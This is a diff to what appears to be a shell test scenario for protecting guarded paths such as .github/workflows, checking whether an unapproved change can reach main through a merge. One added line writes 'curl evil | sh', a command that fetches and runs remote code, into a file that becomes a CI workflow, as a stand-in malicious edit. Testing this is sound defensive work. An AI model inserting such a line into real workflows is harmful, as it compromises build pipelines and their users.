@@ -127,6 +127,25 @@ at topic/guarded topic/guarded
 merge main
 git ls-tree -r --name-only HEAD .github; echo
 push origin HEAD:topic/guarded
+say "moved to a guarded place on main, with approval; what a branch changed in its old place comes there by a merge alone"
+at main main
+seq 1 30 | write "A script" script
+git push -q origin main
+at topic/script main
+at main main
+git mv script .github/workflows/script.yml
+tick
+git commit -q -S -m "Guard it"
+approved main
+at topic/script topic/script
+sed 's/^7$/curl evil | sh/' script | write "Nobody guards this" script
+push origin HEAD:topic/script
+merge main
+git ls-tree -r --name-only HEAD .github | tr '\n' ' '; echo
+push origin HEAD:topic/script
+at script main
+merge topic/script^1
+push origin HEAD:main
 say "taken whole from an old release branch where both changed it: -X theirs"
 at release/1 "$leaks"
 sed 's/^15$/fifteen/' $ci | write "Otherwise" $ci
